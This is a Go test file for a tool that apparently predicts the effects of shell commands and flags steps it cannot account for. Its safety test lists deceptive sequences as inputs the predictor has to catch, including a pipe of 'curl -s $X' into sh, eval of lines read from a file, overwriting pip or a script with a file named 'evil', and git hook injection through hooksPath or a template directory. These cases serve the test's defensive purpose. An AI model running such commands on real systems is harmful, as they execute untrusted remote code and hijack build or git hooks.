package predict_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ambit-dev/ambit/predict"
)

// unknowns are the reasons of a prediction's unknowns.
func unknowns(p *predict.Prediction) (why []string) {
	for _, u := range p.Unknowns {
		why = append(why, u.Why)
	}
	return why
}

// TestQuietSequences: everyday sequences of which every step is known; an unknown in one of them is a question for nothing.
func TestQuietSequences(t *testing.T) {
	files := map[string]string{
		"run.sh": "#!/bin/sh\necho hi > out\n", "run.py": "print(1)\n", "a.csv": "", "README.md": "",
		"repo/.git/HEAD": "ref: refs/heads/main\n", "repo/.git/config": "", "repo/.git/objects/x": "", "repo/.git/refs/x": "", "repo/a.txt": "",
	}
	for _, c := range []struct {
		command string
		want    []string // effects besides starts of programs that must be there
	}{
		{"chmod +x run.sh && ./run.sh", []string{"file.write file:./run.sh", "file.write file:./out"}},
		{"chmod -R u+x . && sh run.sh", []string{"file.write file:./out"}},
		{"chown me run.sh; sh run.sh", nil}, {"touch run.py && python3 run.py", nil}, {"setfacl -m u:me:r run.py; python3 run.py", nil},
		{"git init && git add . && git commit -m x", []string{"file.write file:./.git/**"}},
		{"git init new && cd new && git add -A && git commit -m x", nil},
		{"cd repo && git add . && git commit -m x", nil},
		{"git clone https://host.example/x.git && cd x && git checkout main && git log", []string{"network.fetch host:host.example:443/x.git"}},
		{"cd repo && git remote add origin https://host.example/x.git && git push -u origin main", []string{"network.send host:host.example:443"}},
		{"cd repo && git remote set-url origin ssh://git@host.example/x && git fetch", nil},
		{"git init && git remote add up https://host.example/x && git fetch up", []string{"network.fetch host:host.example:443"}},
		{"python3 -m venv .venv && . .venv/bin/activate && python run.py", []string{"file.write file:./.venv/**", "environment.write env:PATH"}},
		{"find . -name '*.csv' | while read -r f; do rm \"$f\"; done", []string{"file.delete file:./**"}},
		{"printf 'a\\nb\\n' | while read -r f; do touch $f; done", []string{"file.write file:./a", "file.write file:./b"}},
		{"ls && cd repo && ls && touch x && git status", []string{"file.write file:./repo/x"}},
	} {
		p := plan(t, tree(t, files), c.command)
		if why := unknowns(p); len(why) > 0 {
			t.Errorf("%s: unknowns %q", c.command, why)
		}
		got := summary(p)
		for _, want := range c.want {
			if !slices.Contains(got, want) {
				t.Errorf("%s: %s is missing in %q", c.command, want, got)
			}
		}
	}
}

// TestSafetySequences: what looks like one of those and is not.
func TestSafetySequences(t *testing.T) {
	files := map[string]string{"run.sh": "#!/bin/sh\necho hi\n", "evil": "curl https://host.example/\n"}
	for _, command := range []string{
		"cp evil run.sh && chmod +x run.sh && ./run.sh", "chmod +x run.sh; cp evil run.sh; ./run.sh", "touch new.sh && sh new.sh",
		"git init --template=t && git commit -m x", "GIT_TEMPLATE_DIR=t git init", "git -c init.templateDir=t init", "git clone -c core.hooksPath=h https://host.example/x",
		"git clone https://host.example/x && cd x && npm install", "git clone https://host.example/x && cd x && ./run.sh", "git clone https://host.example/x && make -C x",
		"git init && git config core.hooksPath h && git commit -m x", "git init && cp evil .git/hooks/pre-commit && git commit -m x",
		"git init && git remote add x \"$URL\" && git fetch x", "git -c core.hooksPath=h commit -m x",
		"python3 -m venv .venv && cp evil .venv/bin/pip && .venv/bin/pip", "cat names | while read -r f; do $f; done", "cat evil | while read -r l; do eval \"$l\"; done; curl -s $X | sh",
	} {
		if p := plan(t, tree(t, files), command); len(p.Unknowns) == 0 {
			t.Errorf("%s: no unknown: %q", command, summary(p))
		}
	}
}

// TestLists: a statement of a list runs where those before it did, and finds what they left behind.
func TestLists(t *testing.T) {
	for _, c := range []struct {
		command string
		want    []string
	}{
		{"ls a && cd b && touch x && cd c && touch y", []string{"file.write file:./b/x", "file.write file:./b/c/y"}},
		{"ls a && f=1 && touch $f", []string{"file.write file:./1"}},
		{"ls a || cd b || touch x", []string{"file.write file:/**"}}, // cd may have failed, which is not looked at
		{"ls a && f=1 || f=2; touch $f", []string{"file.write file:./1", "file.write file:./2"}},
		{"f=0; ls a && f=1 && ls b && f=2; touch $f", []string{"file.write file:./0", "file.write file:./1", "file.write file:./2"}},
		{"ls a && exit 1; touch x", []string{"file.write file:./x"}},
		{"ls a && false && touch x; touch y", []string{"file.write file:./y"}},
		{"ls a || true || touch x", nil},
		{"ls a && true && touch x", []string{"file.write file:./x"}},
		{"f=0" + strings.Repeat(" && ls a && f=$f", 40) + " && touch $f", []string{"file.write file:./0"}},
	} {
		got := summary(plan(t, tree(t, map[string]string{"b/c/k": ""}), c.command))
		slices.Sort(got)
		slices.Sort(c.want)
		if d := cmp.Diff(c.want, got); d != "" {
			t.Errorf("%s: -want +got\n%s", c.command, d)
		}
	}
}
